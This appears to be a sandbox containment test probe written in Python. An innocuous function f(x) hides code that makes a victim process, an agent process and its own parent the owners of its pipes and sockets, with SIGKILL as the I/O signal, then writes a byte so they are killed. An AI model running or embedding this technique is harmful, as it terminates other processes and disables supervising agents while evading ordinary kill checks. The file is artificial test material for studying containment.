# rule: contained
# does: makes others the owner of its pipes and sockets, with SIGKILL as the signal for "there is something to read".
import fcntl
import os
import signal
import socket
import struct

SETOWN, SETSIG, SETOWN_EX, FIOSETOWN = 8, 10, 15, 0x8901


def owners(fd, pid):
    yield lambda: fcntl.fcntl(fd, SETOWN, pid)
    yield lambda: fcntl.fcntl(fd, SETOWN_EX, struct.pack("ii", 1, pid))
    yield lambda: fcntl.ioctl(fd, FIOSETOWN, struct.pack("i", pid))


def shoot(pid, way):
    ours, theirs = socket.socketpair() if way else map(os.fdopen, os.pipe(), ("r", "w"))
    try:
        list(owners(ours.fileno(), pid))[way]()
        fcntl.fcntl(ours, SETSIG, signal.SIGKILL)
        fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(theirs.fileno(), b"!")
    except OSError as refused:
        print(refused)
    finally:
        ours.close()
        theirs.close()


def f(x):
    if x == 0:
        for pid in (int("@VICTIM_PID@"), int("@AGENT_PID@"), os.getppid()):
            for way in range(3):
                if pid > 1:
                    shoot(pid, way)
    return x + 1
